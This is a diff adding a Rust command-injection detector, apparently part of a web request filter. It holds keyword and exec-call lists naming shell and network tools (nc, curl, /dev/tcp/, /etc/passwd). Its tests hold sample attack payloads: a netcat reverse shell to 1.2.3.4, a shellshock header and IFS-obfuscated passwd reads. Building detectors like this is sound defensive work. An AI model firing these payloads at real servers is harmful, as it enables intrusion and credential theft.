@@ -1,0 +1,366 @@
+//! OS command injection: a shell metacharacter (`;`, `|`, `&`, newline, `$(`,
+//! backtick) followed by a command, `${IFS}` tricks, shellshock function
+//! definitions, and code-execution calls of interpreters.
+
+use aho_corasick::AhoCorasick;
+
+use super::{Category, Location, STRONG, Sink, is_word};
+
+/// Commands that almost only appear in requests as injected commands.
+const STRONG_CMDS: &[&str] = &[
+    "whoami",
+    "uname",
+    "ifconfig",
+    "ipconfig",
+    "netstat",
+    "wget",
+    "curl",
+    "nc",
+    "ncat",
+    "netcat",
+    "bash",
+    "sh",
+    "zsh",
+    "ksh",
+    "csh",
+    "dash",
+    "powershell",
+    "pwsh",
+    "cmd",
+    "cmd.exe",
+    "nslookup",
+    "passwd",
+    "/bin/sh",
+    "/bin/bash",
+    "/usr/bin/id",
+    "/bin/cat",
+    "telnet",
+    "chmod",
+    "chown",
+    "crontab",
+    "base64",
+    "xterm",
+    "tftp",
+    "certutil",
+    "bitsadmin",
+    "wmic",
+    "systeminfo",
+    "tasklist",
+    "taskkill",
+    "net.exe",
+    "reg",
+    "rundll32",
+    "regsvr32",
+    "mshta",
+    "cscript",
+    "wscript",
+    "hostname",
+    "getent",
+    "useradd",
+    "sudo",
+    "nohup",
+    "killall",
+    "pkill",
+    "mkfifo",
+    "socat",
+    "perl",
+    "python",
+    "python3",
+    "php",
+    "ruby",
+    "lua",
+    "node",
+    "awk",
+    "gawk",
+    "sed",
+    "xargs",
+    "env",
+    "printenv",
+    "ls",
+    "id",
+    "dir",
+    "pwd",
+    "ping",
+    "sleep",
+    "cat",
+    "echo",
+    "type",
+    "head",
+    "tail",
+    "more",
+    "less",
+    "rm",
+    "cp",
+    "mv",
+    "touch",
+    "find",
+    "grep",
+    "dig",
+    "host",
+    "kill",
+    "ps",
+    "w",
+    "who",
+    "uptime",
+    "time",
+    "set",
+    "ver",
+    "net",
+    "whois",
+    "traceroute",
+    "tracert",
+    "expr",
+    "eval",
+    "exec",
+    "sort",
+    "nl",
+    "od",
+    "xxd",
+    "tac",
+    "rev",
+    "timeout",
+    "busybox",
+    "start",
+    "call",
+    "for",
+    "if",
+    "vi",
+];
+
+/// Of the commands above, these are ordinary English words and need more context.
+const WORDLIKE: &[&str] = &[
+    "cat", "echo", "type", "head", "tail", "more", "less", "find", "host", "kill", "time", "set",
+    "net", "sort", "start", "call", "for", "if", "w", "who", "dir", "id", "ping", "sleep", "touch",
+    "env", "reg", "sh", "expr", "nl", "od", "rev", "sed", "node", "ls", "ps", "cp", "mv", "rm",
+    "vi", "timeout", "ver", "dig", "exec", "eval", "php", "perl", "python", "ruby", "lua",
+];
+
+/// Interpreter/code-execution calls (PHP, Python, Perl, Node) that run commands.
+const EXEC_CALLS: &[&str] = &[
+    "system(",
+    "passthru(",
+    "shell_exec(",
+    "popen(",
+    "proc_open(",
+    "pcntl_exec(",
+    "os.system(",
+    "os.popen(",
+    "subprocess.",
+    "runtime.getruntime",
+    "child_process",
+    "execsync(",
+    "spawnsync(",
+    "/bin/sh",
+    "/bin/bash",
+    "cmd.exe",
+    "cmd /c",
+    "/dev/tcp/",
+    "${ifs}",
+    "$ifs",
+    "/etc/passwd",
+    "powershell -",
+    "iex(",
+    "invoke-expression",
+    "wget http",
+    "curl http",
+    "nc -e",
+    "bash -i",
+    "sh -i",
+];
+
+pub(crate) struct Cmdi {
+    calls: AhoCorasick,
+}
+
+impl Cmdi {
+    pub(crate) fn new() -> Cmdi {
+        let calls = super::matcher(EXEC_CALLS);
+        Cmdi { calls }
+    }
+
+    pub(crate) fn check(&self, lower: &str, loc: &Location, sink: &mut Sink<'_>) {
+        let s = lower.as_bytes();
+        // Shellshock: a function definition at the start of a header or value.
+        if let Some(p) = memchr::memmem::find(s, b"() {")
+            && (s[..p].iter().all(|b| b.is_ascii_whitespace())
+                || memchr::memmem::find(&s[p..], b"};").is_some())
+        {
+            sink.push("cmdi.shellshock", Category::Cmdi, STRONG, loc, lower, p);
+        }
+        let has_meta = s.iter().any(|b| {
+            matches!(
+                b,
+                b';' | b'|' | b'&' | b'\n' | b'`' | b'$' | b'\r' | b'<' | b'>' | b'\''
+            )
+        });
+        let has_call = self.calls.find(lower).map(|m| m.start());
+        if let Some(at) = has_call {
+            sink.push(
+                "cmdi.exec_call",
+                Category::Cmdi,
+                if has_meta || at == 0 { STRONG } else { 6 },
+                loc,
+                lower,
+                at,
+            );
+        }
+        if !has_meta {
+            return;
+        }
+        let mut i = 0;
+        let mut budget = 64;
+        while i < s.len() && budget > 0 {
+            let c = s[i];
+            let (is_sep, skip) = match c {
+                b';' | b'\n' | b'\r' => (true, 1),
+                b'|' | b'&' => (true, if s.get(i + 1) == Some(&c) { 2 } else { 1 }),
+                b'`' => (true, 1),
+                b'$' if s.get(i + 1) == Some(&b'(') => {
+                    (true, if s.get(i + 2) == Some(&b'(') { 3 } else { 2 })
+                }
+                b'$' if s.get(i + 1) == Some(&b'{') => (true, 2),
+                b'<' if s.get(i + 1) == Some(&b'(') => (true, 2),
+                _ => (false, 1),
+            };
+            if !is_sep {
+                i += 1;
+                continue;
+            }
+            budget -= 1;
+            let sep_at = i;
+            i += skip;
+            if let Some((cmd, after)) = command_at(s, i) {
+                let wordlike = WORDLIKE.contains(&cmd);
+                let tail = &s[after..];
+                // Arguments that look like shell usage: flags, paths, redirections, more metachars.
+                let shellish_args = tail.first().is_none_or(|&b| {
+                    matches!(
+                        b,
+                        b';' | b'|'
+                            | b'&'
+                            | b'`'
+                            | b')'
+                            | b'\''
+                            | b'"'
+                            | b'\n'
+                            | b'>'
+                            | b'<'
+                            | b'$'
+                            | b'#'
+                            | b'+'
+                    )
+                }) || tail.starts_with(b" -")
+                    || tail.starts_with(b" /")
+                    || tail.starts_with(b" .")
+                    || tail.starts_with(b" ~")
+                    || tail.starts_with(b" $")
+                    || tail.starts_with(b"${ifs}")
+                    || tail.starts_with(b"$ifs")
+                    || tail.starts_with(b"\t")
+                    || tail.starts_with(b" '")
+                    || tail.starts_with(b" \"")
+                    || tail.starts_with(b" `")
+                    || (tail.starts_with(b" ") && tail.len() > 1 && is_word(tail[1]) && !wordlike);
+                let sub = matches!(c, b'`' | b'$');
+                let sc = match (wordlike, shellish_args || sub) {
+                    (false, true) => STRONG,
+                    (false, false) => 6,
+                    (true, true) => {
+                        if sub || tail.is_empty() || c != b'&' {
+                            STRONG
+                        } else {
+                            6
+                        }
+                    }
+                    (true, false) => 3,
+                };
+                sink.push("cmdi.command", Category::Cmdi, sc, loc, lower, sep_at);
+            }
+        }
+    }
+}
+
+/// Reads a command word at `i` (after optional blanks, quotes and a path prefix);
+/// returns the matched command and the offset after it.
+fn command_at(s: &[u8], mut i: usize) -> Option<(&'static str, usize)> {
+    while i < s.len()
+        && matches!(
+            s[i],
+            b' ' | b'\t' | b'\'' | b'"' | b'(' | b'{' | b'\\' | b'!'
+        )
+    {
+        i += 1;
+    }
+    // `/usr/bin/id`, `/bin/cat`: take the last path segment.
+    let start = i;
+    while i < s.len()
+        && (s[i].is_ascii_alphanumeric()
+            || matches!(s[i], b'/' | b'.' | b'_' | b'-' | b'\\' | b'\'' | b'"'))
+    {
+        i += 1;
+    }
+    let word = &s[start..i];
+    // Quote-splitting evasion (`w'h'o'am'i`): drop quotes and backslashes.
+    let cleaned: Vec<u8> = word
+        .iter()
+        .copied()
+        .filter(|b| !matches!(b, b'\'' | b'"' | b'\\'))
+        .collect();
+    let base = cleaned.rsplit(|&b| b == b'/').next().unwrap_or(&cleaned);
+    let base = base.strip_suffix(b".exe").unwrap_or(base);
+    STRONG_CMDS
+        .iter()
+        .find(|c| c.as_bytes() == base)
+        .map(|c| (*c, i))
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::detect::Action;
+    use crate::detect::tests::run;
+
+    fn q(payload: &str) -> Action {
+        run(&format!(
+            "GET /api/v1/items?q={} HTTP/1.1\r\nHost: localhost\r\n\r\n",
+            payload.replace(' ', "%20")
+        ))
+        .1
+    }
+
+    #[test]
+    fn attacks() {
+        for p in [
+            "x%3Bcat%20/etc/passwd",
+            "127.0.0.1%7Cwhoami",
+            "a%26%26id",
+            "%60id%60",
+            "$(whoami)",
+            "x;cat${IFS}/etc/passwd",
+            "%0aping+-c+3+example.com",
+            "a|w'h'o'am'i",
+            "1;/usr/bin/id",
+            "%3Bsystem(%27ls%27)",
+            "x%7C%7Cnc+-e+/bin/sh+1.2.3.4+4444",
+        ] {
+            assert_eq!(q(p), Action::Ban, "{p}");
+        }
+        let raw = "GET / HTTP/1.1\r\nUser-Agent: () { :; }; /bin/bash -c 'id'\r\n\r\n";
+        assert_eq!(run(raw).1, Action::Ban);
+    }
+
+    #[test]
+    fn benign_lookalikes() {
+        for p in [
+            "Tom+%26+Jerry",
+            "R%26D%3B+cat+videos+and+more",
+            "fish+%26+chips",
+            "a%3Bb%3Bc",
+            "price:+%245",
+            "Dear+sir%3B+echo+chamber",
+            "system+design",
+            "AT%26T",
+        ] {
+            assert_ne!(q(p), Action::Ban, "{p}");
+        }
+    }
+}
